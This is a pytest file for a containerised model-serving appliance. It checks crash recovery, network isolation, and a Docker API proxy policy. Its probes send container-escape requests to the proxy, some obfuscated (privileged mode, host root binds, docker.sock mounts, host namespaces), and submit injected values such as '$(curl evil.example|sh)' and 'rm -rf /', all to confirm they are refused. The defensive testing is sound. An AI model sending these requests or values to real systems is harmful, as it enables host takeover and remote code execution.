"""Faults of the Compose appliance: the worker killed during a deploy, the Docker API seen
from each service, and what the tenant-facing network can reach; plus deployments that ask
for dangerous engine options (through the admin API, against the local Docker Engine).

The appliance runs from the locally built images (``scripts/build-images compose``) as its
own Compose project on a free loopback port, torn down (with its engines, networks and
volumes) even when a test fails. Engines are the simulator image: there is no GPU here.
"""

from __future__ import annotations

import json
import subprocess
import time
from collections.abc import Callable, Iterator

import docker
import pytest

from deployments.models import Deployment
from tests import leaks
from tests.compose.test_appliance import (
    SIM_IMAGE,
    Stack,
    compose_env,
    free_port,
    issue_admin_token,
    keep_policy_log,
    post,
)
from tests.deployments.conftest import docker_node, eager_tasks, sim_model, stack  # noqa: F401 - fixtures

pytestmark = [pytest.mark.faults, pytest.mark.docker]


@pytest.fixture(scope="module")
def appliance() -> Iterator[Stack]:
    project = leaks.unique_name("tgfault")
    port = free_port()
    s = Stack(project, port, compose_env(project, port))
    try:
        s.compose("up", "-d", "--no-build", "--pull", "never", timeout=600)
        s.wait_healthy()
        s.token = issue_admin_token(s)
        yield s
    finally:
        refused = keep_policy_log(s)
        s.compose("down", "-v", "--timeout", "20", check=False)
        leftovers = s.managed_containers()
        if leftovers:
            subprocess.run(["docker", "rm", "-f", *leftovers], capture_output=True)
        subprocess.run(
            ["docker", "volume", "rm", "-f", f"{project}-model-cache", f"{project}-compile-cache"],
            capture_output=True,
        )
        subprocess.run(["docker", "network", "rm", f"{project}-engines"], capture_output=True)
    assert not refused, f"the Docker API policy refused the worker's own calls: {refused}"


def containers_of(project: str) -> list[dict]:
    ids = subprocess.run(
        ["docker", "ps", "-q", "--filter", f"label=com.docker.compose.project={project}"],
        capture_output=True,
        text=True,
        check=True,
    ).stdout.split()
    ids += subprocess.run(
        ["docker", "ps", "-q", "--filter", f"label=tollgate.stack={project}"],
        capture_output=True,
        text=True,
        check=True,
    ).stdout.split()
    return json.loads(
        subprocess.run(
            ["docker", "inspect", *set(ids)], capture_output=True, text=True, check=True
        ).stdout
    )


def service(c: dict) -> str:
    return c["Config"]["Labels"].get("com.docker.compose.service") or "engine"


@pytest.mark.slow
def test_worker_killed_during_a_deploy_converges_without_duplicates_or_orphans(
    appliance: Stack,
) -> None:
    api = appliance.api()
    post(
        api,
        "/api/v1/models/",
        {
            "served_name": "sim-kill",
            "source": "tollgate/sim",
            "params_billions": "0.5",
            "context_length": 8192,
        },
    )
    post(
        api,
        "/api/v1/deployments/",
        {
            "name": "killme",
            "model": "sim-kill",
            "node": "local",
            "image": SIM_IMAGE,
            "profile": "simulator",
            "replicas": 2,
            "env": {"SIM_LOAD_SECONDS": "6"},
        },
    )
    deadline = time.monotonic() + 120
    while not appliance.managed_containers():  # the worker is creating/loading the engines
        assert time.monotonic() < deadline, "the deploy never created a container"
        time.sleep(0.2)
    worker = appliance.compose("ps", "-q", "worker").strip()
    subprocess.run(["docker", "kill", "--signal", "KILL", worker], check=True, capture_output=True)
    time.sleep(2)
    appliance.compose("start", "worker")  # restart: unless-stopped may already have done it

    deadline, state = time.monotonic() + 240, {}
    while time.monotonic() < deadline:
        state = api.get("/api/v1/deployments/killme/").json()
        if state["state"] == "ready" and all(r["state"] == "ready" for r in state["replica_set"]):
            break
        time.sleep(2)
    assert state.get("state") == "ready", state
    time.sleep(15)  # a few reconcile passes: nothing more is started or removed
    engines = [c for c in containers_of(appliance.project) if service(c) == "engine"]
    labels = sorted(
        (c["Config"]["Labels"]["tollgate.deployment"], c["Config"]["Labels"]["tollgate.replica"])
        for c in engines
    )
    assert len(labels) == 2 and len(set(labels)) == 2, labels  # one container per replica
    assert all(c["State"]["Running"] for c in engines)
    names = {
        r["container_name"] for r in api.get("/api/v1/deployments/killme/").json()["replica_set"]
    }
    assert names == {c["Name"].lstrip("/") for c in engines}  # no orphan, none unaccounted for


PROBE = r"""
import json, urllib.parse, urllib.request, urllib.error
STACK = "{stack}"
def call(method, path, body=None):
    if body is not None:
        body = body if isinstance(body, str) else json.dumps(body)
    data = None if body is None else body.encode()
    req = urllib.request.Request("http://docker-proxy:2375" + path, data=data, method=method,
                                 headers={"Content-Type": "application/json"})
    try:
        return urllib.request.urlopen(req, timeout=10).status
    except urllib.error.HTTPError as exc:
        return exc.code
    except OSError:
        return 0
# Everything but the HostConfig is what the policy accepts: an allowed image, this stack's
# labels and name, so a refusal can only come from the setting under test.
BASE = ('"Image": "tollgate/engine-sim:latest", '
        '"Labels": {"tollgate.managed": "true", "tollgate.stack": "%s"}' % STACK)
CREATE = "/v1.41/containers/create?name=%s-probe" % STACK
def create(host, image=None):
    base = BASE if image is None else BASE.replace("tollgate/engine-sim:latest", image)
    return call("POST", CREATE, "{%s, \"HostConfig\": {%s}}" % (base, host))
mine = urllib.parse.quote(json.dumps(
    {"label": ["tollgate.managed=true", "tollgate.stack=" + STACK]}))
print(json.dumps({
    "list": call("GET", "/v1.41/containers/json?filters=" + mine),
    "list_everything": call("GET", "/v1.41/containers/json"),
    "exec": call("POST", "/v1.41/containers/x/exec", {"Cmd": ["sh"]}),
    "exec_start": call("POST", "/v1.41/exec/x/start", {}),
    "attach": call("POST", "/v1.41/containers/x/attach"),
    "archive": call("PUT", "/v1.41/containers/x/archive?path=/"),
    "commit": call("POST", "/v1.41/commit?container=x"),
    "build": call("POST", "/v1.41/build"),
    "load": call("POST", "/v1.41/images/load"),
    "privileged": create('"Privileged": true'),
    "privileged_spaced": create('"Privileged" : true'),
    "privileged_escaped": create('"\\u0050rivileged": true'),
    "privileged_lower": create('"privileged": true'),
    "privileged_dotless_i": create('"Prıvileged": true'),
    "privileged_duplicate_last": create('"Privileged": false, "Privileged": true'),
    "privileged_duplicate_first": create('"Privileged": true, "Privileged": false'),
    "hostconfig_twice": call(
        "POST", CREATE, '{%s, "HostConfig": {"Privileged": true}, "HostConfig": {}}' % BASE),
    "cap_add": create('"CapAdd": ["SYS_ADMIN"]'),
    "cap_add_spaced": create('"CapAdd" : ["SYS_ADMIN"]'),
    "cap_add_string": create('"capadd": "ALL"'),
    "pid_host": create('"PidMode": "host"'),
    "pid_host_escaped": create('"PidMode": "\\u0068ost"'),
    "ipc_host": create('"IpcMode": "host"'),
    "uts_host": create('"UTSMode": "host"'),
    "userns_host": create('"UsernsMode": "host"'),
    "bind": create('"Binds": ["/:/host"]'),
    "bind_escaped_key": create('"\\u0042inds": ["/:/host"]'),
    "bind_escaped_value": create('"Binds": ["\\u002f:/host"]'),
    "bind_long_s": create('"Bindſ": ["/:/host"]'),
    "mount": create('"Mounts": [{"Type": "bind", "Source": "/", "Target": "/h"}]'),
    "socket": create('"Binds": ["/var/run/docker.sock:/s"]'),
    "devices": create('"Devices": [{"PathOnHost": "/dev/sda", "PathInContainer": "/dev/sda"}]'),
    "tmpfs": create('"Tmpfs": {"/x": "exec"}'),
    "seccomp": create('"SecurityOpt": ["seccomp=unconfined"]'),
    "host_net": create('"NetworkMode": "host"'),
    "host_net_kelvin": create('"NetworKMode": "host"'),
    "image_off_list": create('"NetworkMode": "default"', image="alpine:latest"),
    "pull_off_list": call("POST", "/v1.41/images/create?fromImage=alpine&tag=latest"),
    "volume_bound_to_host": call("POST", "/v1.41/volumes/create", {
        "Name": STACK + "-model-cache",
        "DriverOpts": {"type": "none", "o": "bind", "device": "/"}}),
    "plugin_install": call("POST", "/v1.41/plugins/pull?remote=evil/plugin", []),
    "swarm": call("GET", "/v1.41/swarm"),
    "secrets": call("GET", "/v1.41/secrets"),
    "plugins": call("GET", "/v1.41/plugins"),
}))
"""


def project_volumes(project: str) -> set[str]:
    """The volumes named for the appliance's project (what the probe's volume call would
    have made): other processes' volumes on the engine come and go meanwhile."""
    names = subprocess.run(
        ["docker", "volume", "ls", "-q"], capture_output=True, text=True, check=True
    ).stdout.split()
    return {name for name in names if project in name}


def test_docker_api_refuses_the_worker_what_it_does_not_need_and_web_has_no_socket(
    appliance: Stack,
) -> None:
    """From inside the worker (all a compromised worker has), the Docker API policy refuses
    every call outside the engine lifecycle and every privilege, however the body spells it,
    and nothing is created."""
    volumes = project_volumes(appliance.project)
    out = appliance.compose(
        "exec", "-T", "worker", "python3", "-c", PROBE.replace("{stack}", appliance.project)
    )
    answers = json.loads(out.strip().splitlines()[-1])
    assert answers.pop("list") == 200  # the proxy works for what the worker needs
    allowed = {name: status for name, status in answers.items() if status != 403}
    assert not allowed, f"the Docker API policy let these through: {allowed}"
    probe = subprocess.run(
        ["docker", "ps", "-aq", "--filter", f"name={appliance.project}-probe"],
        capture_output=True,
        text=True,
        check=True,
    ).stdout
    assert probe == ""
    assert project_volumes(appliance.project) <= volumes
    for svc in ("web", "usage", "beat"):
        out = appliance.compose(
            "exec",
            "-T",
            svc,
            "python3",
            "-c",
            "import os, socket\n"
            "print('sock' if os.path.exists('/var/run/docker.sock') else 'nosock')\n"
            "try:\n socket.create_connection(('docker-proxy', 2375), 3); print('reached')\n"
            "except OSError: print('unreachable')",
        )
        assert out.split() == ["nosock", "unreachable"], (svc, out)


def test_from_the_tenant_network_only_the_tls_front_is_reachable(appliance: Stack) -> None:
    """A tenant reaches the appliance through published ports only. Every container of the
    stack (engines included) publishes nothing but the TLS front; a machine on another Docker
    network (a probe container on a network this test creates) cannot open a connection to
    PostgreSQL, Redis, an engine or the Docker proxy; /metrics needs its token."""
    api = appliance.api()
    post(
        api,
        "/api/v1/models/",
        {
            "served_name": "sim-net",
            "source": "tollgate/sim",
            "params_billions": "0.5",
            "context_length": 8192,
        },
    )
    post(
        api,
        "/api/v1/deployments/",
        {
            "name": "net",
            "model": "sim-net",
            "node": "local",
            "image": SIM_IMAGE,
            "profile": "simulator",
            "replicas": 1,
        },
    )
    deadline = time.monotonic() + 180
    while api.get("/api/v1/deployments/net/").json()["state"] != "ready":
        assert time.monotonic() < deadline
        time.sleep(1)
    every = containers_of(appliance.project)
    published = {
        service(c): sorted(p for p, b in (c["HostConfig"]["PortBindings"] or {}).items() if b)
        for c in every
    }
    # Only the TLS front is published (HTTPS, and HTTP that redirects to it).
    assert {s: p for s, p in published.items() if p} == {"https": ["8080/tcp", "8443/tcp"]}, (
        published
    )
    targets = []
    for c in every:
        ports = {"db": 5432, "redis": 6379, "docker-proxy": 2375, "engine": 8000}.get(service(c))
        if ports:
            targets += [
                (service(c), net["IPAddress"], ports)
                for net in c["NetworkSettings"]["Networks"].values()
                if net["IPAddress"]
            ]
    assert {t[0] for t in targets} == {"db", "redis", "docker-proxy", "engine"}, targets
    net = f"{appliance.project}-tenant"
    subprocess.run(["docker", "network", "create", net], check=True, capture_output=True)
    try:
        code = (
            "import socket, json, sys\nres = {}\n"
            f"for name, ip, port in {targets!r}:\n"
            "    try:\n        socket.create_connection((ip, port), 3).close(); res[name + ip] = "
            "'open'\n"
            "    except OSError: res[name + ip] = 'closed'\nprint(json.dumps(res))"
        )
        out = subprocess.run(
            [
                "docker",
                "run",
                "--rm",
                "--network",
                net,
                "--label",
                f"tollgate.stack={appliance.project}",
                "--entrypoint",
                "python3",
                SIM_IMAGE,
                "-c",
                code,
            ],
            capture_output=True,
            text=True,
            timeout=120,
        )
        reach = json.loads(out.stdout.strip().splitlines()[-1])
        assert set(reach.values()) == {"closed"}, reach
    finally:
        subprocess.run(["docker", "network", "rm", net], capture_output=True)
    with appliance.client() as client:
        assert client.get("/metrics").status_code == 404
        assert client.get("/metrics", headers={"Authorization": "Bearer guess"}).status_code == 404


@pytest.mark.django_db(transaction=True)
def test_dangerous_deployments_are_400_and_create_no_container(
    docker_node,
    sim_model,
    stack: str,
    eager_tasks: None,
    client_for: Callable,
    root: object,  # noqa: F811
) -> None:
    api = client_for(root)
    base = {
        "name": "bad",
        "model": sim_model.served_name,
        "node": docker_node.name,
        "image": SIM_IMAGE,
        "engine_args": {"max-num-seqs": 4},
        "env": {"SIM_LOAD_SECONDS": "0.2"},
    }
    bodies = {
        "trust-remote-code": {**base, "engine_args": {"trust-remote-code": True}},
        "host": {**base, "engine_args": {"host": "0.0.0.0"}},
        "port": {**base, "engine_args": {"port": 1}},
        "shell in a value": {**base, "engine_args": {"max-model-len": "4096; rm -rf /"}},
        "shell in a value 2": {
            **base,
            "engine_args": {"served-model-name": "$(curl evil.example|sh)"},
        },
        "unknown flag": {**base, "engine_args": {"--enable-shell": True}},
        "unlisted image": {**base, "image": "evil/miner:latest"},
        "other registry": {**base, "image": "evil.example/tollgate/engine-sim:latest"},
        "lookalike repo": {**base, "image": "tollgate/engine-sim-evil:latest"},
        "download dir": {**base, "engine_args": {"download-dir": "/etc"}},
        "env LD_PRELOAD": {**base, "env": {"LD_PRELOAD": "/tmp/x.so"}},
        "host mount": {
            **base,
            "volumes": ["/:/host"],
            "mounts": [{"type": "bind", "source": "/", "target": "/h"}],
        },
        "privileged": {
            **base,
            "privileged": True,
            "cap_add": ["SYS_ADMIN"],
            "network_mode": "host",
        },
    }
    # Each under its own name, so no refusal is merely "that name is taken".
    answers = {
        name: api.post("/api/v1/deployments/", {**body, "name": f"bad{i}"}, format="json")
        for i, (name, body) in enumerate(bodies.items())
    }
    accepted = {
        name: (a.status_code, a.content[:120])
        for name, a in answers.items()
        if a.status_code != 400
    }
    client = docker.from_env()
    created = client.containers.list(
        all=True, filters={"label": f"tollgate.stack={stack}"}, ignore_removed=True
    )
    for container in created:  # whatever was accepted must at least not have got its way
        host = container.attrs["HostConfig"]
        assert not host["Privileged"] and not host.get("CapAdd") and host["NetworkMode"] != "host"
        assert not [m for m in container.attrs["Mounts"] if m["Type"] == "bind"], container.attrs[
            "Mounts"
        ]
    assert not accepted, f"accepted: {accepted}"
    assert created == [] and not Deployment.objects.exists()
